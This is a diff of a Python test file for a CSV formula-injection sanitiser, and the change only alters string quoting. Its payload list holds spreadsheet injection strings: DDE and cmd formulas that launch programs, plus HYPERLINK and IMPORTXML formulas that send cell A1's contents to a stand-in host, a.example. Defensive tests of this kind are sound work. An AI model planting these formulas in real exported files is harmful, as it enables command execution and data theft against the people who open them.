@@ -26,10 +26,10 @@ PAYLOADS = [
     "\n=1+1",
     " =1+1",
     "  \t =cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://a.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://a.example/?"&A1,"click")',
     "=cmd|' /C notepad'!'A1'",
     "|cmd",
-    "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
     "@@A",
     "+cmd",
     "-2+3+cmd|' /C calc'!A0",
@@ -42,10 +42,10 @@ PAYLOADS = [
     "\x00=1+1",
     "\ufeff=1+1",
     "=''",
-    "=\"",
+    '="',
     "='; DROP",
-    "=A1:B2,\"x\"",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=A1:B2,"x"',
+    '=DDE("cmd";"/C calc";"x")',
     "-",
 ]
 
@@ -78,7 +78,7 @@ def test_any_text_comes_back_as_one_cell_of_text(text):
     assert harmless(text)[:1] not in STARTS
 
 
-@pytest.mark.parametrize("name", ["O'Brian", "Küche", "Bed, \"north\"", "a;b", "客厅", "<b>Den</b>"])
+@pytest.mark.parametrize("name", ["O'Brian", "Küche", 'Bed, "north"', "a;b", "客厅", "<b>Den</b>"])
 def test_legitimate_names_stay_as_they_are(name):
     assert harmless(name) == name
     assert read_csv(csv_text(Sheet("x", ("a",), ((name,),))))[1] == [name]
